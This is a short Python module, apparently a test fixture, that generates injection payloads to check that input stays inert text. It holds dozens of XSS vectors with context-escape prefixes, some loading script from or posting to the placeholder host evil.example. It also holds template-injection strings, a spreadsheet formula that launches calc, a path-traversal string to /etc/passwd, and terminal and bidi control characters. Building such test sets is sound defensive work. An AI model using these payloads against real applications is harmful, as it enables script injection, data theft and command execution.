"""Texts that would act if anything took them for more than text."""

from collections.abc import Iterator
from itertools import product

CALL = "window.__hit=1"

ELEMENTS = (
    "<script>{call}</script>", "<ScRiPt>{call}</sCrIpT>", "<script src=//evil.example/x.js></script>",
    "<img src=x onerror={call}>", "<img src=x onerror='{call}'>", '<img/src="x"/onerror="{call}">',
    "<svg onload={call}>", "<svg/onload={call}>", "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>", "<math><mtext><script>{call}</script>",
    "<body onload={call}>", "<iframe src=javascript:{call}>", "<iframe srcdoc='<script>{call}</script>'>",
    "<details open ontoggle={call}>", "<video><source onerror={call}></video>", "<audio src=x onerror={call}>",
    "<input autofocus onfocus={call}>", "<select autofocus onfocus={call}>", "<textarea autofocus onfocus={call}>",
    "<marquee onstart={call}>", "<object data=javascript:{call}>", "<embed src=javascript:{call}>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css'</style>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><button>x", "<a href=javascript:{call}>x</a>", "<a href='data:text/html,<script>{call}</script>'>x</a>",
    "<template><script>{call}</script></template>", '<noscript><p title="</noscript><img src=x onerror={call}>">',
    "<xss style=animation-name:x onanimationstart={call}>", "<div style=background:url(//evil.example/x)>",
    "<table background=//evil.example/x>", "<bgsound src=//evil.example/x>", "<isindex type=image src=x onerror={call}>",
    "<keygen autofocus onfocus={call}>", "<dialog open onclose={call}>", "<p onmouseover={call}>x",
)  # fmt: skip
WAYS_OUT = ("", '">', "'>", "</title>", "</textarea>", "</style>", "</script>", "-->", "]]>", "`>")
ODD = (
    "{{7*7}}", "{% raw %}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{ request.app.state.pool }}",
    "javascript:window.__hit=1", "\x1b[31mrot\x1b[0m", "\x1b]0;Titel\x07", "\x9b2J", "ab\u202egnol", "a\u2066b\u2069",
    "a\u200bb\u200cc", "\ufeffBOM", "\U000e0041tag", "\x00nul", "\x08\x08\x08", "a\rb", "&lt;script&gt;", "&#x3c;script&#x3e;",
    "%3Cscript%3E", "\\u003cscript\\u003e", "<!--", "<![CDATA[", "<?xml ?>", "«<img src=x onerror=window.__hit=1>»",
    "=cmd|'/c calc'!A0", "../../../etc/passwd", "a" * 500 + "<b>", "Donaudampfschifffahrtsgesellschaftskapitänsmütze" * 6,
)  # fmt: skip


def payloads() -> Iterator[str]:
    """Yield them, each once: elements behind every way out of where a text may stand, and odd ones."""
    for index, (way, element) in enumerate(product(WAYS_OUT, ELEMENTS)):
        if way == "" or index % 4 == 0:
            yield way + element.format(call=CALL)
    yield from ODD
